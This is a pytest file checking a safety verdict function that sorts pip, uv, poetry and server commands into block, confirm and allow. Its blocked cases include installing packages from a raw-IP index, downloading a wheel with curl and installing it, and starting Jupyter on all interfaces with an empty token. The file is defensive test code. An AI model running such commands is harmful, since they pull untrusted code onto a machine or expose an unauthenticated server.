"""pip and its like."""

from __future__ import annotations

import pytest
from tests.reactor_core.safety.tools.verdicts import verdict


@pytest.mark.parametrize(
    "action",
    [
        "pip install --index-url http://203.0.113.9/simple tool",
        "pip install http://203.0.113.9/x.whl",
        "curl -so x.whl https://x.example/x.whl && pip install x.whl",
        "jupyter lab --ip 0.0.0.0 --ServerApp.token=''",
    ],
)
def test_is_blocked(action: str) -> None:
    assert verdict(action) == "block"


@pytest.mark.parametrize(
    "action",
    [
        "sudo pip install requests",
        "pip install git+https://github.com/x/y.git",
        "pip install --break-system-packages black",
        "pipx install black",
        "uv tool install ruff",
        "uv publish",
        "uvx unknown-tool",
        "uvicorn app:app --host 0.0.0.0",
        "uv run python migrate.py",
    ],
)
def test_is_asked_about(action: str) -> None:
    assert verdict(action) == "confirm"


@pytest.mark.parametrize(
    "action",
    [
        "pip install -r requirements.txt",
        "pip install -e .",
        "pip list --outdated",
        "uv sync",
        "uv run pytest",
        "uvx ruff check",
        "poetry run mypy src",
        "poetry install",
        "jupyter lab --ip 127.0.0.1",
        "uvicorn app:app --reload",
        "tensorboard --logdir runs",
        "bundle exec rspec",
    ],
)
def test_is_let_through(action: str) -> None:
    assert verdict(action) == "allow"
